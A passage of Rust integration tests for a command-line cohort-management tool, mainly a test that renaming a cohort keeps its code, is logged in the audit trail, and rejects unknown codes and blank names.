    assert!(!cli.path("s.png.partial").exists(), "the code of a cohort that was not stored is removed");
}

/// A cohort renamed keeps its code (and so its links); the audit log records it.
#[test]
fn a_cohort_is_renamed_keeping_its_code() {
    let cli = Cli::new();
    assert!(cli.run(&["cohorts", "add", "TIRANA-2026", "--name", "Tirana, spring"]).status.success());
    let renamed = cli.run(&["cohorts", "rename", "tirana-2026", "--name", "Tirana, spring 2026"]);
    assert!(renamed.status.success(), "{}", stderr(&renamed));
    assert!(stdout(&cli.run(&["cohorts", "list"])).contains("TIRANA-2026") && stdout(&renamed).contains("now called"));
    assert!(stdout(&cli.run(&["cohorts", "list"])).contains("Tirana, spring 2026"));
    assert!(stdout(&cli.run(&["audit"])).contains("cohort_renamed"));
    let unknown = cli.run(&["cohorts", "rename", "NOPE", "--name", "Nope"]);
    assert!(!unknown.status.success() && stderr(&unknown).contains("no cohort has the code NOPE"));
    let blank = cli.run(&["cohorts", "rename", "TIRANA-2026", "--name", " "]);
    assert!(!blank.status.success() && stderr(&blank).contains("--name"), "{}", stderr(&blank));
}
